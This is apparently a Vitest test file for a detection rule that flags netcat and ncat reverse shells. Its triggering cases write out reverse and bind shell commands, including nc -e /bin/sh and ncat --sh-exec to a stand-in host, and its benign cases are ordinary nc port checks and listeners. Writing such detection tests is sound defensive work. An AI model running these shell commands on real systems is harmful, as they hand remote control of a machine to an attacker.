import { describe } from 'vitest';
import { exec, sh, ruleTable } from '../../test-kit.js';
import { ncExec } from './reverse-shell-nc-exec.js';

describe('proc.reverse-shell-nc-exec', () => {
  ruleTable(ncExec, {
    fires: [
      { name: 'nc -e /bin/sh', event: exec(['nc', 'relay.rogue.test', '4444', '-e', '/bin/sh']) },
      {
        name: 'busybox nc -e',
        event: exec(['busybox', 'nc', 'relay.rogue.test', '4444', '-e', 'sh']),
      },
      {
        name: 'combined -lvpe bind shell',
        event: exec(['nc.traditional', '-lvp', '4444', '-e', '/bin/bash']),
      },
      {
        name: 'ncat --sh-exec',
        event: exec(['ncat', '--sh-exec', 'bash -i', 'relay.rogue.test', '443']),
      },
      { name: 'nc -c in a script', event: sh('nc -c sh relay.rogue.test 4444') },
    ],
    passes: [
      { name: 'nc -z port check', event: exec(['nc', '-z', 'localhost', '8080']) },
      { name: 'nc -l server', event: exec(['nc', '-l', '-p', '9000']) },
      {
        name: 'ncat relay to another nc',
        event: exec(['ncat', '-l', '8080', '-c', 'ncat registry.test 80']),
      },
    ],
  });
});
